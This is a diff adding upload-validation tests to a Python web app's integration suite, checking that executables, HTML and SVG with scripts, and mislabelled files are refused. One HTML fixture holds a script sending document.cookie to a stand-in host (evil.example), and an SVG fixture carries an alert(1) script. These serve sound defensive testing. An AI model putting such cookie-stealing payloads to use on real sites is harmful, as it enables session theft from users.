@@ -2,13 +2,20 @@
 
 from __future__ import annotations
 
+import io
+import zipfile
 from html.parser import HTMLParser
+from pathlib import Path
 from urllib.parse import urldefrag, urlsplit
 
+import pytest
+from sqlalchemy import select
+
 from assessment.extensions import db
-from assessment.models import ReportJob
-from tests.integration.helpers import autosave
-from tests.integration.test_evidence import upload
+from assessment.models import Evidence, EvidenceLink, ReportJob
+from tests.integration.helpers import autosave, example_version, make_scope
+from tests.integration.test_evidence import count, files_in, upload
+from tests.integration.test_transfer import ANSWERS, assert_refused, post_zip
 
 CSP = (
     "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; object-src 'none'; "
@@ -126,3 +133,125 @@ def test_no_page_has_inline_script_style_or_handlers(app, client, devops):
     ):
         assert expected in visited, (expected, sorted(visited))
     assert {url: problems for url, problems in pages.items() if problems} == {}
+
+
+# -- uploads -----------------------------------------------------------------------------------
+
+
+PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489") + b"\x00" * 16
+ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 100
+HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/'+document.cookie</script>"
+
+
+def stored_types(app) -> dict[str, str]:
+    with app.app_context():
+        files = select(Evidence.original_name, Evidence.media_type).where(Evidence.sha256.is_not(None))
+        return dict(db.session.execute(files).all())
+
+
+def assert_nothing_stored(app):
+    assert files_in(app) == [] and count(app, Evidence) == 0 and count(app, EvidenceLink) == 0
+
+
+def test_html_renamed_pdf_is_refused_and_stores_nothing(app, client, devops):
+    assessment, _ = devops
+    response = upload(client, assessment, "CI-01", HTML, "report.pdf")
+    text = response.get_data(as_text=True)
+    assert response.status_code == 400 and "text/html" in text and "nothing was stored" in text
+    assert "Accepted: PDF" in text
+    assert_nothing_stored(app)
+
+
+@pytest.mark.parametrize(
+    ("data", "name", "detected"),
+    [
+        (ELF, "build-tool", "application/x-executable"),
+        (
+            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64,
+            "setup.dat",
+            "application/x-dosexec",
+        ),
+        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "chart.png", "image/svg+xml"),
+        (
+            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
+            "page.xml",
+            "application/xhtml+xml",
+        ),
+        (b"\x00\x01\x02\x03 opaque", "data.bin", "application/octet-stream"),
+    ],
+)
+def test_executables_and_active_content_are_refused(app, client, devops, data, name, detected):
+    assessment, _ = devops
+    response = upload(client, assessment, "CI-01", data, name)
+    assert response.status_code == 400 and detected in response.get_data(as_text=True)
+    assert_nothing_stored(app)
+
+
+def test_a_name_that_would_run_when_opened_is_refused_whatever_the_content(app, client, devops):
+    assessment, _ = devops
+    for name in ("notes.html", "diagram.svg", "deploy.bat", "helper.js"):
+        response = upload(client, assessment, "CI-01", b"just some text\n", name)
+        assert response.status_code == 400 and "could run when opened" in response.get_data(as_text=True), name
+    assert_nothing_stored(app)
+
+
+def test_a_name_contradicting_the_content_is_refused(app, client, devops):
+    assessment, _ = devops
+    response = upload(client, assessment, "CI-01", b"stages: [build]\n", "scan.pdf")
+    assert response.status_code == 400 and "its content is text/plain" in response.get_data(as_text=True)
+    response = upload(client, assessment, "CI-01", PDF, "notes.txt")
+    assert response.status_code == 400 and "its content is application/pdf" in response.get_data(as_text=True)
+    assert_nothing_stored(app)
+
+
+def _zip(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def test_accepted_files_store_the_sniffed_type(app, client, devops):
+    assessment, _ = devops
+    files = {
+        "scan.pdf": PDF,
+        "screenshot": PNG,  # no extension: the name says nothing, the content does
+        "pipeline.yml": b"stages: [build, test]\n",
+        "deploy.sh": b"#!/bin/sh\nset -eu\nmake deploy\n",
+        "x": b"x",  # too short for libmagic, but plain text
+        "policy.docx": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
+    }
+    for name, data in files.items():
+        response = upload(client, assessment, "CI-01", data, name)
+        assert response.status_code == 302, (name, response.get_data(as_text=True))
+    assert stored_types(app) == {
+        "scan.pdf": "application/pdf",
+        "screenshot": "image/png",
+        "pipeline.yml": "text/plain",
+        "deploy.sh": "text/x-shellscript",
+        "x": "text/plain",
+        "policy.docx": "application/zip",
+    }
+    assert len(files_in(app)) == len(files)
+
+
+def test_import_refuses_an_evidence_file_of_a_refused_type(app, client):
+    example_version(app)
+    scope = make_scope(client)
+    answers = ANSWERS.replace(
+        b"        sha256: 1a8dd0a0e6bd03841deb022508d992e909b2aeec63148d1b7e7629ecaf94a533\n", b""
+    )
+    response = post_zip(client, scope, {"answers.yaml": answers, "evidence/pipeline.yml": HTML})
+    assert_refused(app, response, "The evidence file &#39;evidence/pipeline.yml&#39; is refused")
+    assert "text/html" in response.get_data(as_text=True)
+
+
+def test_import_stores_the_sniffed_type(app, client):
+    example_version(app)
+    scope = make_scope(client)
+    pipeline = (Path(__file__).parents[1] / "data" / "spec-examples" / "evidence" / "pipeline.yml").read_bytes()
+    response = post_zip(client, scope, {"answers.yaml": ANSWERS, "evidence/pipeline.yml": pipeline})
+    assert response.status_code == 302, response.get_data(as_text=True)
+    assert stored_types(app) == {"pipeline.yml": "text/plain"}
